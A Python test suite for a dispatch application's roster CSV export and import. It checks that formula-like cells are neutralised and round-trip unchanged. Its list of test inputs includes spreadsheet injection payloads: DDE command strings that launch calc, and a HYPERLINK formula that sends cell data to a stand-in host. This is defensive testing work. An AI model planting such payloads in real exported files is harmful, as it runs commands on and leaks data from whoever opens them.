"""Exported roster CSV never carries a formula a spreadsheet would run, and imports back unchanged."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatch.catalogue_files import load_demo_roster
from dispatch.domain.roster import UnitRejected, UnitSpec, unit_from_text, unit_to_text
from dispatch.domain.roster_csv import (
    FORMULA_STARTS,
    neutralise_cell,
    read_roster_csv,
    restore_cell,
    write_roster_csv,
)

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+62 24 7612345",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+two apostrophes",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _dangerous_unit(base: UnitSpec, value: str, phone: str = "+62 24 7612345") -> UnitSpec:
    return replace(base, agency_name=value, station=value, radio=value, phone=phone)


@pytest.mark.parametrize("value", DANGEROUS)
def test_no_exported_cell_starts_a_formula_and_import_restores_it(value: str) -> None:
    base = load_demo_roster()[0]
    unit = _dangerous_unit(replace(base, call_sign="=POL-01"), value)
    text = write_roster_csv([unit])
    for row in _cells(text):
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or cell.lstrip("-").replace(".", "", 1).isdigit(), cell
    assert read_roster_csv(text).units == (unit,)


def test_negative_coordinates_stay_numbers_and_phone_numbers_keep_their_plus() -> None:
    unit = replace(load_demo_roster()[0], lat=-6.9893, lon=110.4203, phone="+62 24 7612345")
    header, row = _cells(write_roster_csv([unit]))
    cells = dict(zip(header, row, strict=True))
    assert cells["lat"] == "-6.9893"
    assert cells["phone"] == "'+62 24 7612345"
    assert read_roster_csv(write_roster_csv([unit])).units == (unit,)


def test_a_spreadsheet_saved_text_with_its_apostrophe_imports_without_it() -> None:
    text = (
        "call_sign,agency_type,agency_name,phone\r\n"
        "POL-77,police,'-Polsek- Tembalang,'+62 24 112\r\n"
        "POL-78,police,'Polsek Banyumanik,\r\n"
    )
    first, second = read_roster_csv(text).units
    assert first.agency_name == "-Polsek- Tembalang"
    assert first.phone == "+62 24 112"
    assert second.agency_name == "'Polsek Banyumanik"  # an apostrophe before plain text is kept


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    assert restore_cell(neutralise_cell(text)) == text


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    cell = neutralise_cell(text)
    if cell[:1] in FORMULA_STARTS:
        assert cell == text
        float(cell)  # "-6.98", "1e-05": a number, which no spreadsheet runs


_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@'abc 12.;|\"")) | st.characters(categories=["L", "N"]),
    max_size=20,
)


@given(name=_TEXT, station=_TEXT, radio=_TEXT, phone=st.sampled_from(["", "+62 24 112", "-112", "0812"]))
def test_any_unit_with_formula_like_text_round_trips(name: str, station: str, radio: str, phone: str) -> None:
    base = load_demo_roster()[0]
    fields = unit_to_text(base) | {"agency_name": name, "station": station, "radio": radio, "phone": phone}
    try:
        unit = unit_from_text(fields)
    except UnitRejected:
        return
    text = write_roster_csv([unit])
    assert read_roster_csv(text).units == (unit,)
